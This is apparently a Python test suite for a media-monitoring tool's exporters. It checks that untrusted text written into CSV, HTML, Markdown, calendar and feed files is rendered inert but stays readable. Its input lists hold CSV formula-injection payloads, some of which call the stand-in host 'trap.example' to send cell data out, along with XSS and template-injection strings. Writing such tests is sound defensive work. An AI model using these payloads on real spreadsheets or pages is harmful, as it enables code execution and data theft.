"""Nothing that a stranger wrote becomes live in a file that we hand over, and all of it can still be read."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import fields, replace
from html.parser import HTMLParser

import feedparser
import icalendar
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mediawatch.exporters import EXPORTERS, things
from mediawatch.exporters.passage import Entry, Fact, Passage, Words
from mediawatch.exporters.rows import FORMULA_STARTS, write_csv
from mediawatch.exporters.story import one_line
from mediawatch.model import TimelineEntry, TimelineHead
from mediawatch.visible import make_visible

HEAD = TimelineHead(
    "Harbour Lane", "Europe/London", (), "2026-06-30T14:05:00+00:00", "Ada", (), "5d1c0f7d", 9
)
TEXTS = (
    "outlet",
    "title",
    "address",
    "quote",
    "claim_text",
    "answer",
    "by",
    "detail",
    "digest",
    "captured_at",
)
ENTRY = TimelineEntry(
    kind="claim made", occurred_on="2026-03-04", precision="day", occurred_at="",
    recorded_at="2026-03-04T09:00:00+00:00", report=1, claim=1, rebuttal=0, request=0, lag_days=None,
    **dict.fromkeys(TEXTS, "said"),
)  # fmt: skip

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1", "\u3000=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "−1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1",
    '=HYPERLINK("https://trap.example?x="&A1,"more")', "=cmd|'/c calc'!A0", "=DDE(\"cmd\";\"/c calc\";\"1\")",
    '=IMPORTXML(CONCAT("https://trap.example?",A1),"//a")', "=WEBSERVICE(\"https://trap.example\")",
    "@import", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '"=1+1"', "'=1+1", 'a";=1+1;"', "a;=1+1", "a\n=1+1",
    "a\r\n@SUM(1)", "a\t=1+1", ";;\"\"=1+1&\"\"", "\xad=1+1",
]  # fmt: skip

SCRIPTS = [
    "<script>alert(1)</script>", "</blockquote><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>", "' onmouseover='alert(1)", "javascript:alert(1)", "<a href=javascript:alert(1)>x</a>",
    "<!-- --><iframe srcdoc='<script>1</script>'>", "</style><script>alert(1)</script>", "<base href=//trap.example>",
    "</title><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#106;avascript:alert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "\ud83d<b>", "<![CDATA[<script>1</script>]]>", "＜script＞alert(1)＜/script＞",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "https://trap.example/\" onclick=\"alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
]  # fmt: skip

MARKUP = [
    "[more](https://trap.example)", "![x](https://trap.example/p.png)", "<https://trap.example>", "https://trap.example",
    "www.trap.example", "me@trap.example", "[a]: https://trap.example\n\n[a]", "[a][b]", "# heading", "heading\n===",
    "heading\n---", "---", "***", "- item", "+ item", "* item", "1. item", "1) item", "> quote", "    code", "\tcode",
    "```\ncode\n```", "~~~\ncode\n~~~", "`code`", "``a`b``", "*a* _b_ **c** __d__ ~~e~~",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a\n:-:\n1", "<b>bold</b>", "<script>alert(1)</script>", "<!-- hidden -->", "<?php ?>", "<!DOCTYPE x>",
    "&lt;b&gt; &copy; &#60;", "\\*a\\* \\", "a\\\nb", "a  \nb", "\\[x](y)", "[^1]\n\n[^1]: note", "- [ ] task",
    "<details><summary>x</summary>", "term\n: definition", "$x$ $$y$$", "{% raw %} {{ x }}", "\n\n# after a gap",
    "a\n\n\n- b\n\n    c", "`unclosed", "[unclosed](", "**unclosed", "javascript:alert(1)", "ftp://trap.example/x",
    "a\u2028# b\u2029# c\x0b# d\x0c# e\x85# f",
]  # fmt: skip


def export(ending: str, entry: TimelineEntry, head: TimelineHead = HEAD) -> str:
    out = io.StringIO(newline="")
    EXPORTERS[ending](head, iter([entry]), out)
    made = out.getvalue()
    made.encode("utf-8")
    return made


def fill(text: str) -> TimelineEntry:
    """An entry in which every text is the stranger's."""
    return replace(ENTRY, **dict.fromkeys(TEXTS, text))


def fill_contact(text: str) -> TimelineEntry:
    """A contact in which every text is the stranger's, also those among its particulars."""
    told = dict.fromkeys(("channel", "them", "us", "stage", "deadline", "subject"), text)
    return replace(
        fill(text), kind="they contacted us", contact=9, quote="", answer="", particulars=json.dumps(told)
    )


# --- spreadsheets ---------------------------------------------------------------------------------------


def list_cells(made: str) -> list[str]:
    """The cells as readers with other separators find them: comma (RFC 4180), semicolon, tab."""
    return [
        cell
        for separator in ",;\t"
        for row in csv.reader(io.StringIO(made.removeprefix("\ufeff"), newline=""), delimiter=separator)
        for cell in row
    ]


def is_active(cell: str) -> bool:
    """Whether a spreadsheet that sheds blanks, unseen signs and quotation marks first could see a formula."""
    return cell.strip(' \t\r\n\xa0\u3000\xad\u200b\ufeff"')[:1] in tuple(FORMULA_STARTS)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_active_in_any_reader(text: str) -> None:
    for entry in (fill(text), fill_contact(text)):
        assert [cell for cell in list_cells(export("csv", entry)) if is_active(cell)] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_what_was_neutralised_can_still_be_read(text: str) -> None:
    read = list(csv.DictReader(io.StringIO(export("csv", fill(text)).removeprefix("\ufeff"), newline="")))
    shown = make_visible(text, keep_newlines=True)
    assert read[0]["quote"].replace("'", "") == shown.replace("'", "")


@given(st.text(st.sampled_from("=+-@＝－ \t\n\r;,|\"'a1\xa0\u200b\xad␉"), max_size=30) | st.text(max_size=30))
def test_no_random_cell_is_active(text: str) -> None:
    out = io.StringIO(newline="")
    write_csv([text], [{text: text}, {text: [text]}], out)
    assert [cell for cell in list_cells(out.getvalue()) if is_active(cell)] == []


# --- HTML -----------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """What a reader of the page finds: elements, attributes, the text of block quotes, all text."""

    def __init__(self, made: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.quotes: list[str] = []
        self.text = ""
        self.inside = False
        self.feed(made)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "blockquote":
            self.inside = True
            self.quotes.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "blockquote":
            self.inside = False

    def handle_data(self, data: str) -> None:
        self.text += data
        if self.inside:
            self.quotes[-1] += data


OURS = {
    "html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "article", "h1", "h2",
    "h3", "figure", "figcaption", "blockquote", "dl", "div", "dt", "dd", "a", "code", "p", "ul", "li",
}  # fmt: skip


def assert_page_is_dead(made: str) -> Page:
    page = Page(made)
    assert {tag for tag, _ in page.tags} <= OURS
    for tag, attributes in page.tags:
        assert not [
            name for name in attributes if name.startswith("on") or name in ("style", "src", "srcdoc")
        ], tag
        if tag == "a":
            assert re.match(r"https?://", attributes["href"] or "")
    assert sum(tag == "style" for tag, _ in page.tags) == 1
    return page


@pytest.mark.parametrize("text", [*SCRIPTS, *MARKUP, *FORMULAS])
def test_html_holds_no_element_of_a_stranger_and_all_of_the_text(text: str) -> None:
    head = replace(
        HEAD, organisation=text, made_by=text, filters=((text, text),), left_out=(text,), chain_head=text
    )
    page = assert_page_is_dead(export("html", fill(text), head))
    shown = make_visible(text, keep_newlines=True)
    assert page.quotes == [shown, shown]
    assert make_visible(one_line(text)) in page.text
    contact = assert_page_is_dead(export("html", fill_contact(text), head))
    assert contact.quotes == [shown]


@given(st.text(st.sampled_from("<>\"'&/=;#ax!-[]\n\x00\x1b\u202e ") | st.characters(), max_size=60))
def test_random_text_comes_back_from_html_the_same(text: str) -> None:
    page = assert_page_is_dead(export("html", fill("x" + text)))
    assert page.quotes[0] == make_visible("x" + text, keep_newlines=True)


# --- Markdown -------------------------------------------------------------------------------------------

READERS = {"CommonMark": MarkdownIt("commonmark"), "tables and strike-through": MarkdownIt("js-default")}
READERS["tables and strike-through"].options["html"] = True
READERS["tables and strike-through"].options["linkify"] = False

ALLOWED = {
    "heading", "paragraph", "bullet_list", "list_item", "blockquote", "link", "inline", "text", "softbreak",
    "hardbreak", "code_inline",
}  # fmt: skip


def read_markdown(made: str, reader: str) -> tuple[list[str], list[str], list[str]]:
    """Kinds of element, addresses of links, and block quotes as text, as a Markdown reader finds them."""
    kinds: list[str] = []
    links: list[str] = []
    quotes: list[str] = []
    inside = False
    for token in READERS[reader].parse(made):
        kinds.append(token.type.removesuffix("_open").removesuffix("_close"))
        if token.type == "blockquote_open":
            inside = True
            quotes.append("")
        inside = inside and token.type != "blockquote_close"
        for child in token.children or []:
            kinds.append(child.type.removesuffix("_open").removesuffix("_close"))
            if child.type == "link_open":
                links.append(str(child.attrs["href"]))
            if inside:
                quotes[-1] += "\n" if child.type in ("hardbreak", "softbreak") else child.content
        if inside and token.type == "paragraph_close":
            quotes[-1] += "\n\n"
    return kinds, links, quotes


def words_of(text: str) -> list[str]:
    """Lines with something on them, without the blanks at their ends."""
    return [line.strip() for line in make_visible(text, keep_newlines=True).split("\n") if line.strip()]


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize("text", [*MARKUP, *SCRIPTS, *FORMULAS])
def test_markdown_shows_the_text_and_acts_on_none_of_it(text: str, reader: str) -> None:
    kinds, links, quotes = read_markdown(export("md", replace(fill(text), address="")), reader)
    plain, _, _ = read_markdown(export("md", replace(fill("said"), address="")), reader)
    assert set(kinds) <= ALLOWED
    assert links == []
    assert kinds.count("heading") == plain.count("heading")
    assert kinds.count("list_item") == plain.count("list_item") - 2 * (not one_line(text))
    assert [words_of(quote) for quote in quotes] == [words_of(text)] * 2
    kinds, links, quotes = read_markdown(export("md", replace(fill_contact(text), address="")), reader)
    assert set(kinds) <= ALLOWED
    assert links == []
    assert [words_of(quote) for quote in quotes] == [words_of(text)]


@given(st.text(st.sampled_from("#*_`~[]()<>!|\\&;:-+=.1a@/w$ \n\r\t{}\"'") | st.characters(), max_size=60))
def test_random_text_comes_back_from_markdown_the_same(text: str) -> None:
    kinds, links, quotes = read_markdown(
        export("md", replace(fill("x"), quote="x" + text, title=text)), "CommonMark"
    )
    assert set(kinds) <= ALLOWED
    assert links == []
    assert words_of(quotes[0]) == words_of("x" + text)


@pytest.mark.parametrize("ending", ["md", "html"])
def test_only_a_plain_address_is_a_link(ending: str) -> None:
    good = "https://northern-courier.example/a?b=c&d=e*f_g"
    for address, expected in ((good, [good]), ("javascript:alert(1)", []), ("https://a@trap.example", [])):
        made = export(ending, replace(ENTRY, address=address))
        if ending == "md":
            links = read_markdown(made, "CommonMark")[1]
        else:
            links = [attributes["href"] for tag, attributes in Page(made).tags if tag == "a"]
        assert links == expected


# --- lists that are handed over to be read ----------------------------------------------------------------


def hand_over(ending: str, text: str) -> str:
    """A passage with a stranger's text wherever one may stand, in a format of text."""
    passage = Passage(
        section=text,
        day=text,
        happened=one_line(text),
        words=(Words(text, "said"), Words("Their words", text)),
        facts=(Fact(text, "said"), Fact("Details", text), Fact(text, text, "code")),
        entry=Entry("claim-1", None, text, "", text),
    )
    out = io.StringIO(newline="")
    things.FORMS[ending].write("Claims", HEAD, iter([passage]), out)
    return out.getvalue()


@pytest.mark.parametrize("text", [*SCRIPTS, *MARKUP, *FORMULAS])
def test_no_label_of_a_stranger_is_live_in_html(text: str) -> None:
    page = assert_page_is_dead(hand_over("html", text))
    assert page.quotes == ["said", make_visible(text, keep_newlines=True)]


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize("text", [*MARKUP, *SCRIPTS, *FORMULAS])
def test_no_label_of_a_stranger_is_live_in_markdown(text: str, reader: str) -> None:
    kinds, links, _ = read_markdown(hand_over("md", text), reader)
    plain, _, _ = read_markdown(hand_over("md", "said"), reader)
    assert set(kinds) <= ALLOWED
    assert links == []
    assert kinds.count("heading") == plain.count("heading")


@pytest.mark.parametrize("text", [*SCRIPTS, *MARKUP, *FORMULAS])
def test_a_stranger_s_words_make_one_event_and_one_entry(text: str) -> None:
    calendar = icalendar.Calendar.from_ical(hand_over("ics", text))
    assert [each.name for each in calendar.walk()] == ["VCALENDAR", "VJOURNAL"]
    assert all(each.errors == [] for each in calendar.walk())
    feed = feedparser.parse(hand_over("atom", text))
    assert not feed.bozo and len(feed.entries) == 1
    assert feed.entries[0].get("links", []) == []
    assert feed.entries[0].content[0].type == "text/plain"


# --- everything -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("ending", sorted(EXPORTERS))
@pytest.mark.parametrize(
    "text", ["\x1b[31m\x9b2J", "\u202egpj.exe\u202c", "a\u200bb\ufeff", "\u2028\u2029", "\udc80\x00"]
)
def test_no_control_or_bidi_character_reaches_a_file_raw(text: str, ending: str) -> None:
    head = replace(
        HEAD, organisation=text, made_by=text, filters=((text, text),), left_out=(text,), chain_head=text
    )
    raw = "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2028\u2029\ud800-\udfff]"
    for entry in (replace(fill(text), kind=text, occurred_on=text), fill_contact(text)):
        made = export(ending, entry, head)
        assert re.findall(raw, made) == []
        assert "\ufeff" not in made[1:]


def test_the_hostile_entry_fills_every_text_of_an_entry() -> None:
    said = {field.name for field in fields(TimelineEntry) if getattr(ENTRY, field.name) == "said"}
    assert said == set(TEXTS)
